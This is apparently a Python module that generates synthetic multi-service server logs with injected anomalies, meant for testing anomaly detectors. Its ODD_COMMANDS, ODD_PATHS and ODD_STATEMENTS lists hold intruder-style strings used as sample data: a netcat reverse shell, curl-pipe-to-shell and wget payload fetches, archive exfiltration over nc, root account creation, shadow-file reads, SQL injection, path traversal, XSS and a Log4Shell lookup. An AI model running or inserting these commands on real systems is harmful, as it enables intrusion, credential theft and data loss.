"""Log lines of eight services, and anomalies among them.

A seed determines all lines. Each line is a template whose times, addresses, numbers, users, hosts, paths and keys are
drawn, some of them from long-tailed lists, and some messages are rare. `masked` replaces numbers and hexadecimal keys;
session keys and what people type stay, so that one masked line in nine is new even after 100 MB; the others repeat
earlier ones. The anomalies are of five kinds:

- "other service": a line of a ninth service;
- "odd command": a usual line with a command, path or query that an intruder would use;
- "shuffled": a usual message with five neighboring words in another order;
- "crossed": the beginning of a message of one service and the end of one of another;
- "truncated": a message that breaks off.

A damaged line never equals its original once both are masked.
"""

from __future__ import annotations

import random
import re
from bisect import bisect
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from functools import cache
from itertools import accumulate
from typing import NamedTuple

START = datetime(2025, 11, 3)
LINES_A_SECOND = 7.0
KINDS = ("other service", "odd command", "shuffled", "crossed", "truncated")

# The services, the weight of each, and their messages with their weights.
SERVICES: dict[str, tuple[float, dict[str, float]]] = {
    "sshd": (14, {
        "Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{token}": 3,
        "Accepted password for {user} from {ip} port {port} ssh2": 5,
        "Failed password for invalid user {user} from {ip} port {port} ssh2": 6,
        "pam_unix(sshd:session): session opened for user {user}(uid={number}) by (uid=0)": 8,
        "pam_unix(sshd:session): session closed for user {user}": 8,
        "Received disconnect from {ip} port {port}:11: disconnected by user": 5,
        "Connection closed by authenticating user {user} {ip} port {port} [preauth]": 3,
        "error: kex_exchange_identification: Connection closed by remote host": 0.3,
        "error: maximum authentication attempts exceeded for {user} from {ip} port {port} ssh2 [preauth]": 0.1,
        "Server listening on 0.0.0.0 port 22.": 0.02,
    }),
    "nginx": (30, {
        '{ip} - - "GET {path} HTTP/1.1" 200 {size} "https://shop.example/" "{agent}" {seconds}': 20,
        '{ip} - {user} "POST /api/v{digit}/{table} HTTP/2.0" 201 {size} "-" "{agent}" {seconds}': 4,
        '{ip} - - "GET {path} HTTP/1.1" 304 0 "-" "{agent}" {seconds}': 6,
        '{ip} - - "GET {path}?page={small}&sort={column} HTTP/1.1" 404 {small} "-" "{agent}" {seconds}': 2,
        '{ip} - - "GET /search?q={typed} HTTP/1.1" 200 {size} "https://shop.example/" "{agent}" {seconds}': 3,
        '{ip} - - "GET /account?session={token} HTTP/1.1" 200 {size} "-" "{agent}" {seconds}': 1,
        "upstream timed out (110: Connection timed out) while reading response header from upstream, client: {ip}, "
        'server: {host}, request: "GET {path} HTTP/1.1"': 0.2,
        'client sent invalid header line: "x-{word}: {token}" while reading client request headers, client: {ip}': 0.05,
    }),
    "postgres": (14, {
        "LOG:  duration: {milliseconds} ms  statement: {statement}": 10,
        "LOG:  connection authorized: user={user} database={table} application_name=psql": 4,
        "LOG:  checkpoint complete: wrote {number} buffers ({small}.{small}%); write={seconds} s, sync={seconds} s": 2,
        'ERROR:  duplicate key value violates unique constraint "{table}_{column}_key"': 1,
        "LOG:  automatic vacuum of table \"shop.public.{table}\": index scans: 1, pages: {number} removed": 2,
        "FATAL:  terminating connection due to administrator command": 0.03,
        "WARNING:  there is already a transaction in progress": 0.1,
    }),
    "postfix/smtpd": (10, {
        "connect from {host}.example.com[{ip}]": 6,
        "{hex}: client={host}.example.com[{ip}], sasl_method=PLAIN, sasl_username={user}@example.com": 5,
        "{hex}: message-id=<{token}@{host}.example.com>": 2,
        "{hex}: message-id=<{hex}.{number}@{host}.example.com>": 3,
        "{hex}: to=<{user}@example.org>, relay=mx{small}.example.org[{ip}]:25, delay={seconds}, dsn=2.0.0, "
        "status=sent (250 2.0.0 Ok: queued as {hex})": 5,
        "disconnect from {host}.example.com[{ip}] ehlo=1 mail=1 rcpt={small} data=1 quit=1 commands={small}": 6,
        "warning: hostname {host}.{word}.example.net does not resolve to address {ip}: Name or service not known": 0.2,
        "NOQUEUE: reject: RCPT from unknown[{ip}]: 454 4.7.1 <{user}@example.net>: Relay access denied": 0.1,
    }),
    "CRON": (6, {
        "({user}) CMD ({command})": 10,
        "pam_unix(cron:session): session opened for user {user}(uid={number}) by (uid=0)": 5,
        "pam_unix(cron:session): session closed for user {user}": 5,
    }),
    "sudo": (4, {
        "{user} : TTY=pts/{small} ; PWD=/home/{user} ; USER=root ; COMMAND={command}": 10,
        "pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={number})": 8,
        "pam_unix(sudo:session): session closed for user root": 8,
    }),
    "dhcpd": (8, {
        "DHCPREQUEST for {ip} from {mac} ({host}) via eth{digit}": 5,
        "DHCPACK on {ip} to {mac} ({host}) via eth{digit}": 5,
        "DHCPDISCOVER from {mac} via eth{digit}: network 10.{small}.0.0/16: no free leases": 1,
        "DHCPNAK on {ip} to {mac} via eth{digit}": 0.03,
        "reuse_lease: lease age {number} (secs) under 25% threshold, reply with unaltered, existing lease for {ip}": 2,
    }),
    "shop": (14, {
        "INFO  OrderService - order {number} of customer {user} placed: {small} x {product}, total {money} EUR": 8,
        "INFO  PaymentGateway - payment {uuid} for order {number} captured in {milliseconds} ms": 6,
        "WARN  StockCache - {product} low in warehouse {host}: {small} left, reordering {number}": 3,
        "DEBUG SearchIndex - query '{typed}' gave {number} hits in {milliseconds} ms (shard {digit})": 5,
        "ERROR MailQueue - could not deliver receipt of order {number} to {user}@example.com: mailbox full": 1,
        "INFO  SessionStore - session {uuid} of {user} expired after {number} s": 5,
        "WARN  PaymentGateway - retry {digit} of payment {uuid}: {word} gateway answered 503 Service Unavailable": 0.1,
        "ERROR OrderService - order {number} rolled back: OptimisticLockException on {table}, version {small}": 0.05,
    }),
}  # fmt: skip

OTHER_SERVICES: dict[str, tuple[float, dict[str, float]]] = {
    "kernel": (1, {
        "usb {digit}-{digit}: new high-speed USB device number {small} using xhci_hcd": 1,
        "EXT4-fs error (device sda{digit}): ext4_find_entry:{number}: inode #{number}: comm {word}: bad entry": 1,
        "Out of memory: Killed process {number} ({word}) total-vm:{number}kB, anon-rss:{number}kB": 1,
    }),
    "named": (1, {
        "client @0x{hex} {ip}#{port} ({host}.example.net): query (cache) '{host}.example.net/A/IN' denied": 1,
        "zone {host}.example.net/IN: transferred serial {number}": 1,
    }),
    "openvpn": (1, {
        "{user}/{ip}:{port} TLS: soft reset sec={number} bytes={number}/-1 pkts={number}/0": 1,
        "{ip}:{port} VERIFY OK: depth=0, CN={user}, OU=remote": 1,
    }),
    "smartd": (1, {
        "Device: /dev/sd{digit} [SAT], {number} Currently unreadable (pending) sectors": 1,
        "Device: /dev/sd{digit} [SAT], SMART Usage Attribute: 194 Temperature changed from {small} to {small}": 1,
    }),
}  # fmt: skip

COMMANDS = (
    "/usr/bin/apt-get -qq update", "/usr/lib/sysstat/sa1 1 1", "/usr/local/bin/backup --target {host}:/backup/{table}",
    "/usr/bin/python3 /srv/jobs/{word}.py --since {number}", "/usr/bin/certbot -q renew", "run-parts /etc/cron.hourly",
    "/bin/systemctl restart {word}-worker.service", "/usr/bin/rsync -a /srv/{word}/ {host}:/srv/{word}/",
    "/usr/sbin/logrotate /etc/logrotate.conf", "/usr/bin/psql -d {table} -f /srv/sql/{word}.sql",
)  # fmt: skip
ODD_COMMANDS = (
    "/bin/nc -e /bin/sh {ip} {port}", "/bin/sh -c curl -s http://{ip}/{word}.sh | sh", "/usr/bin/chmod u+s /bin/bash",
    "/usr/bin/base64 -d /tmp/.{word} | bash", "/usr/bin/wget -qO /dev/shm/{word} http://{ip}:{port}/x",
    "/usr/sbin/useradd -o -u 0 {word}", "/usr/bin/cat /etc/shadow", "/usr/bin/crontab -r",
    "/usr/bin/python3 -c import pty; pty.spawn('/bin/sh')", "/usr/bin/tar cz /home | nc {ip} {port}",
)  # fmt: skip
ODD_PATHS = (
    "/../../../../etc/passwd", "/{word}.php?id=1%27%20OR%20%271%27=%271", "/.env", "/wp-login.php?action=register",
    "/cgi-bin/.%2e/.%2e/bin/sh", "/?x=${{jndi:ldap://{ip}/a}}", "/{word}/<script>alert({small})</script>",
    "/.git/config",
)  # fmt: skip
STATEMENTS = (
    "SELECT {column}, {column} FROM {table} WHERE {column} = {number}",
    "UPDATE {table} SET {column} = {number} WHERE id = {number}",
    "INSERT INTO {table} ({column}, status) VALUES ({number}, '{word}')",
    "SELECT count(*) FROM {table} JOIN customers USING ({column}) WHERE {column} < {number}",
    "DELETE FROM {table} WHERE {column} < {number}",
)  # fmt: skip
ODD_STATEMENTS = (
    "SELECT usename, passwd FROM pg_shadow", "COPY {table} TO PROGRAM 'nc {ip} {port}'", "DROP TABLE {table} CASCADE",
    "SELECT pg_read_file('/etc/passwd')", "SELECT {column} FROM {table} WHERE id = 1 OR 1=1; --",
    "ALTER ROLE {user} WITH SUPERUSER",
)  # fmt: skip
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:{small}.0) Gecko/20100101 Firefox/{small}.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{small}.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{digit} like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1",
    "curl/8.{digit}.{digit}", "Googlebot/2.1 (+http://www.google.com/bot.html)", "python-requests/2.{small}.{digit}",
)  # fmt: skip
TABLES = ("orders", "customers", "products", "sessions", "payments", "stock", "reviews", "invoices", "shipments")
COLUMNS = ("id", "name", "created_at", "price", "status", "customer_id", "order_id", "quantity", "email", "country")
HOSTS = ("web", "db", "mail", "cache", "worker", "laptop", "printer", "phone", "store", "build")
SYLLABLES = [a + b for a, b in zip("abcdefghijklmnoprstv", "neaolioanoauioreiaoe", strict=True)]
LETTERS_AND_DIGITS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
N_USERS, N_WORDS = 600, 120  # the first ones are by far the most frequent

_CHANGING = re.compile(
    r"(?:[0-9a-f]{2}:){5}[0-9a-f]{2}|\b(?=[0-9a-f]*[0-9])(?=[0-9a-f]*[a-f])[0-9a-f]{6,}\b|\d+"
)  # Ethernet addresses, hexadecimal keys, numbers


class Line(NamedTuple):
    """A line, and the kind of anomaly that it is; "" for a usual line."""

    text: str
    kind: str


def masked(line: str) -> str:
    """Replace numbers and hexadecimal keys by 0: which one it is says nothing.

    Examples
    --------
    >>> masked("4f01ac: delay=0.25, relay=mx12[10.0.0.7]")
    '0: delay=0.0, relay=mx0[0.0.0.0]'
    """
    return _CHANGING.sub("0", line)


# -------------------------------------------------------------- drawn fields


@cache
def _made_up(n: int, seed: str) -> list[str]:
    """Return n different names of two to four syllables."""
    rng, found = random.Random(seed), dict[str, None]()
    while len(found) < n:
        found["".join(rng.choice(SYLLABLES) for _ in range(rng.choice((2, 2, 3, 3, 4))))] = None
    return list(found)


def _frequent_first(names: list[str], rng: random.Random) -> str:
    """Return one of some names; the rank of the chosen name is about log-uniform, as by Zipf's law."""
    return names[int(len(names) ** rng.random()) - 1]


def _path(rng: random.Random) -> str:
    kind = rng.random()
    if kind < 0.5:
        return f"/products/{DRAWN['word'](rng)}-{rng.randrange(10_000)}"
    if kind < 0.7:
        return f"/static/{rng.randrange(16**8):08x}/{rng.choice(('app.js', 'shop.css', 'logo.svg', 'vendor.js'))}"
    if kind < 0.9:
        return f"/api/v{rng.randrange(1, 4)}/{rng.choice(TABLES)}/{rng.randrange(10**6)}"
    return f"/blog/{rng.randrange(2015, 2026)}/{DRAWN['word'](rng)}.html"


def _typed(rng: random.Random) -> str:
    """Return a word or two as somebody types them: one in six with a wrong, missing or doubled letter."""
    typed = "+".join(DRAWN["word"](rng) for _ in range(rng.choice((1, 1, 2))))
    if rng.random() < 1 / 6:
        i = rng.randrange(len(typed))
        typed = typed[:i] + rng.choice(("", 2 * typed[i], rng.choice("aeiourst"))) + typed[i + 1 :]
    return typed


def _ip(rng: random.Random) -> str:
    n = rng.randrange(256**3)
    return f"10.{n >> 16}.{n >> 8 & 255}.{n & 255}"


DRAWN: dict[str, Callable[[random.Random], str]] = {
    "user": lambda rng: _frequent_first(_made_up(N_USERS, "users"), rng),
    "word": lambda rng: _frequent_first(_made_up(N_WORDS, "words"), rng),
    "product": lambda rng: f"{DRAWN['word'](rng)}-{rng.choice('SML')}{rng.randrange(100)}",
    "host": lambda rng: f"{rng.choice(HOSTS)}{rng.randrange(1, 40)}",
    "ip": _ip,
    "mac": lambda rng: ":".join(f"{rng.randrange(256):02x}" for _ in range(6)),
    "port": lambda rng: str(rng.randrange(1024, 65536)),
    "token": lambda rng: "".join(rng.choices(LETTERS_AND_DIGITS, k=16)),
    "typed": lambda rng: _typed(rng),
    "hex": lambda rng: f"{rng.randrange(16**10):010x}",
    "uuid": lambda rng: f"{rng.randrange(16**8):08x}-{rng.randrange(16**12):012x}",
    "digit": lambda rng: str(rng.randrange(8)),
    "small": lambda rng: str(rng.randrange(1, 100)),
    "number": lambda rng: str(int(10 ** (1 + 5 * rng.random()))),
    "size": lambda rng: str(int(10 ** (2 + 4 * rng.random()))),
    "seconds": lambda rng: f"{10 ** (2 * rng.random() - 2):.3f}",
    "milliseconds": lambda rng: f"{10 ** (3 * rng.random()):.2f}",
    "money": lambda rng: f"{rng.randrange(1, 900)}.{rng.choice(('00', '49', '95', '99'))}",
    "path": _path,
    "table": lambda rng: rng.choice(TABLES),
    "column": lambda rng: rng.choice(COLUMNS),
    "agent": lambda rng: _filled(rng.choice(AGENTS), rng),
    "command": lambda rng: _filled(rng.choice(COMMANDS), rng),
    "statement": lambda rng: _filled(rng.choice(STATEMENTS), rng),
}
ODD: dict[str, Callable[[random.Random], str]] = {
    "command": lambda rng: _filled(rng.choice(ODD_COMMANDS), rng),
    "path": lambda rng: _filled(rng.choice(ODD_PATHS), rng),
    "statement": lambda rng: _filled(rng.choice(ODD_STATEMENTS), rng),
}


class _Fields(dict[str, str]):
    """Fields drawn at the first access; fields set here are kept."""

    def __init__(self, rng: random.Random, **kept: str) -> None:
        super().__init__(kept)
        self._rng = rng

    def __missing__(self, name: str) -> str:
        return DRAWN[name](self._rng)


def _filled(template: str, rng: random.Random, **kept: str) -> str:
    return template.format_map(_Fields(rng, **kept))


# --------------------------------------------------------------------- lines


class _Choice:
    """Draws (service, template) by their weights."""

    def __init__(self, services: dict[str, tuple[float, dict[str, float]]], having: str = "") -> None:
        self._items, weights = list[tuple[str, str]](), list[float]()
        for service, (weight, messages) in services.items():
            for template, of_message in messages.items():
                if having in template:
                    self._items.append((service, template))
                    weights.append(weight * of_message / sum(messages.values()))
        self._sums = list(accumulate(weights))

    def draw(self, rng: random.Random) -> tuple[str, str]:
        return self._items[bisect(self._sums, rng.random() * self._sums[-1], hi=len(self._items) - 1)]


_USUAL, _OTHER = _Choice(SERVICES), _Choice(OTHER_SERVICES)
_WITH = {field: _Choice(SERVICES, f"{{{field}}}") for field in ODD}


def _line(service: str, message: str, time: datetime, rng: random.Random) -> str:
    """Return a line with what stands before each message: time, host, service and process."""
    shown = time.isoformat(sep=" ", timespec="milliseconds")
    return f"{shown} srv{rng.randrange(1, 25):02d} {service}[{rng.randrange(300, 32_768)}]: {message}"


def usual_lines(seed: int = 0) -> Iterator[str]:
    """Yield usual lines without end, in the order of their times."""
    rng, time = random.Random(f"usual lines {seed}"), START + timedelta(days=30 * seed)
    while True:
        time += timedelta(seconds=rng.expovariate(LINES_A_SECOND))
        service, template = _USUAL.draw(rng)
        yield _line(service, _filled(template, rng), time, rng)


def anomalies(kind: str, seed: int = 0) -> Iterator[str]:
    """Yield anomalies of a kind without end, with times within one day."""
    rng = random.Random(f"anomalies {kind} {seed}")
    while True:
        service, message = _anomaly(kind, rng)
        yield _line(service, message, START + timedelta(seconds=rng.random() * 86_400), rng)


def _anomaly(kind: str, rng: random.Random) -> tuple[str, str]:
    if kind == "other service":
        service, template = _OTHER.draw(rng)
        return service, _filled(template, rng)
    if kind == "odd command":
        field = rng.choice(tuple(ODD))
        service, template = _WITH[field].draw(rng)
        return service, _filled(template, rng, **{field: ODD[field](rng)})
    while True:
        service, template = _USUAL.draw(rng)
        usual = _filled(template, rng)
        message = _damaged(kind, usual, service, rng)
        if message is not None and masked(message) != masked(usual):
            return service, message


def _damaged(kind: str, usual: str, service: str, rng: random.Random) -> str | None:
    """Return a damaged message, or None if the message is too short."""
    words = usual.split()
    if len(words) < 4:
        return None
    if kind == "shuffled":
        first = rng.randrange(max(1, len(words) - 4))
        part = words[first : first + 5]
        rng.shuffle(part)
        return " ".join([*words[:first], *part, *words[first + 5 :]])
    if kind == "truncated":
        return usual[: rng.randrange(len(usual) // 5, len(usual) * 9 // 10)].rstrip()
    other, template = _USUAL.draw(rng)
    rest = _filled(template, rng).split()
    if other == service or len(rest) < 4:
        return None
    return " ".join([*words[: rng.randrange(2, len(words) - 1)], *rest[rng.randrange(2, len(rest) - 1) :]])


def mixed_lines(n_usual: int, n_of_each: int, seed: int = 1) -> list[Line]:
    """Return usual lines and anomalies of every kind, in random order.

    Examples
    --------
    >>> lines = mixed_lines(10, 2)
    >>> len(lines), sum(line.kind == "crossed" for line in lines)
    (20, 2)
    """
    usual = usual_lines(seed)
    found = [Line(next(usual), "") for _ in range(n_usual)]
    for kind in KINDS:
        odd = anomalies(kind, seed)
        found += [Line(next(odd), kind) for _ in range(n_of_each)]
    random.Random(seed).shuffle(found)
    return found
